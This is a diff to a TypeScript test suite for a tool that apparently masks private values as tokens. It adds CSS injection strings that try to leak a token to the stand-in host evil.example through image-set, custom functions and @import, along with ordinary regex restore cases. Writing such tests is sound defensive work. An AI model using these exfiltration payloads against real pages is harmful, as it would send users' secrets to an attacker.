@@ -87,6 +87,9 @@ describe('stays a token', () => {
     `<style>a{b:url("data:'(')")${token}`,
     `<style>a{b:url("data:x<y")${token}`,
     `<style>a{b:url("data:,""x")${token}`,
+    `<style>b{background:image-set(/*)*/'https:evil.example/?q= ${token}' 1x)}</style>`,
+    `<style>b{c:--f(/*)*/'https:evil.example/?q= ${token}')}</style>`,
+    `<style>b{c:--f(data:/*)*/x,'https:evil.example/?q= ${token}')}</style>`,
     `<style>a{b:url("data:,)}b{c:image-set('//x?")${token}' 1x)}`,
     `<style>@import "data:text/css,@import '/%5cevil.example/?q= ${token}'`,
     `<style>a{b:image-set(url("a.png") 1x, "b" 2x, '${token}`,
@@ -206,6 +209,22 @@ describe('stays a token', () => {
 });
 
 describe('is restored', () => {
+  // A sheet with such an indentation may be code, and never end.
+  test.each([
+    '/^[\\d\\s()+-]{7,}$/.test(phone)',
+    '/^\\+?[\\d\\s()-]+$/',
+    '/^[\\d ()+-]+$/',
+    's.replace(/[^\\d()]/g,"")',
+    's.match(/\\d(?:px)/)',
+    '/[a-z\\d](?:[a-z\\d-]*)/',
+    '/\\b(a|b)\\b/',
+    '/\\B(?=(\\d{3})+(?!\\d))/g',
+  ])('behind a sheet that is indented, and %s', (code) => {
+    const page = (value: string) =>
+      `<head>\n    <style>\n        body { margin: 0; }\n    </style>\n</head>\n<body>\n    <script>\n${code}\n    </script>\n    <p>${value}</p>\n</body>\n\nSend it to ${value}.`;
+    expect(restored(page(token))).toBe(page(original));
+  });
+
   test.each([
     // `<style>` is the name of something.
     `\`\`\`java\nList<Style> all = new ArrayList<>();\nvoid f() { mail("${token}"); }\n\`\`\``,
